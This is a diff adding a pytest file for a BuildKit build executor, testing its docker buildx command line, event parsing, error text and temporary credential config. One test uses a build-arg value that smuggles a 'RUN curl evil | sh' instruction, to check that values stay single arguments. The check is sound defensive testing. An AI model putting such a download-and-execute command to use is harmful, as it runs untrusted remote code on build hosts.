@@ -1,0 +1,67 @@
+"""The BuildKit executor's pure parts: the command line it runs and how it reads BuildKit's events.
+
+The events are a real recording (``tests/fixtures/buildkit/``): ``docker buildx build
+--progress=rawjson`` of a 4-step Dockerfile on Docker 26.1.5 / buildx 0.13.1, the first two
+steps cached, the last printing a line with terminal colour codes.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+from pathlib import Path
+
+from builder.oci import buildkit
+
+RECORDING = Path(__file__).parent / "fixtures" / "buildkit" / "rawjson-4-steps-2-cached.txt"
+
+
+def test_argv_passes_every_value_as_one_argument_and_no_network_flag():
+    request = buildkit.BuildRequest(
+        dockerfile="images/cpu/Dockerfile", context=".", platform="linux/amd64",
+        build_args={"WHEELS_TORCH": "torch==2.13.0+cpu --hash=sha256:ab", "EVIL": "x\nRUN curl evil | sh"},
+        contexts={"wheels": "/w"}, labels={"a": "b c"}, cache_from=("type=registry,ref=r:cpu",),
+        cache_to=("type=inline",), compression="zstd")
+    argv = request.argv(metadata="/tmp/m.json")
+    assert argv[:3] == ["docker", "buildx", "build"]
+    assert "--build-arg" in argv and "WHEELS_TORCH=torch==2.13.0+cpu --hash=sha256:ab" in argv
+    assert "EVIL=x\nRUN curl evil | sh" in argv, "a value stays one argument: it can't become an instruction"
+    assert argv[argv.index("--build-context") + 1] == "wheels=/w"
+    assert argv[argv.index("--output") + 1] == "type=docker,compression=zstd,force-compression=true"
+    assert "--network" not in argv and not any(a.startswith("--network") for a in argv)
+    assert argv[-1] == "." and "--provenance=false" in argv
+
+
+def test_the_recorded_events_give_the_steps_and_the_cached_ones():
+    steps = buildkit.Steps()
+    started, lines = [], []
+    for event in buildkit._events(io.StringIO(RECORDING.read_text())):
+        assert "text" not in event, event  # every object of the recording parses, pretty-printed as it is
+        for vertex in event.get("vertexes") or []:
+            if (name := steps.update(vertex)) is not None:
+                started.append(name)
+        lines += buildkit._log_lines(event, steps)
+    assert sorted(n.split("]")[0] for n in started) == ["[common 2/4", "[common 3/4", "[common 4/4"]  # FROM: no step
+    assert len(steps.names) == 3 and len(steps.done) == 3 and len(steps.cached) == 2
+    assert "bold line one" in lines and "line 2" in lines, lines  # one line per line, colours gone
+    assert not any("\x1b" in line for line in lines)
+
+
+def test_plain_text_from_buildx_passes_as_text():
+    text = 'ERROR: failed to solve: process "/bin/sh -c false" did not complete successfully: exit code: 1\n'
+    events = list(buildkit._events(io.StringIO('{\n  "vertexes": []\n}\n' + text)))
+    assert events == [{"vertexes": []}, {"text": text.strip()}]
+    assert "exit code: 1" in buildkit._build_error([e["text"] for e in events if "text" in e], 1)
+
+
+def test_credentials_reach_buildx_in_a_private_config_only(tmp_path, monkeypatch):
+    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "user"))
+    (tmp_path / "user").mkdir()
+    (tmp_path / "user" / "config.json").write_text(json.dumps({"auths": {"other:5000": {"auth": "eA=="}}}))
+    with buildkit.docker_config("127.0.0.1:5001", {"username": "u", "password": "p"}) as env:
+        private = Path(env["DOCKER_CONFIG"])
+        config = json.loads((private / "config.json").read_text())
+        assert set(config["auths"]) == {"other:5000", "127.0.0.1:5001"}
+        assert (private / "config.json").stat().st_mode & 0o077 == 0
+    assert not private.exists(), "the private config is removed after the build"
+    assert json.loads((tmp_path / "user" / "config.json").read_text())["auths"].keys() == {"other:5000"}
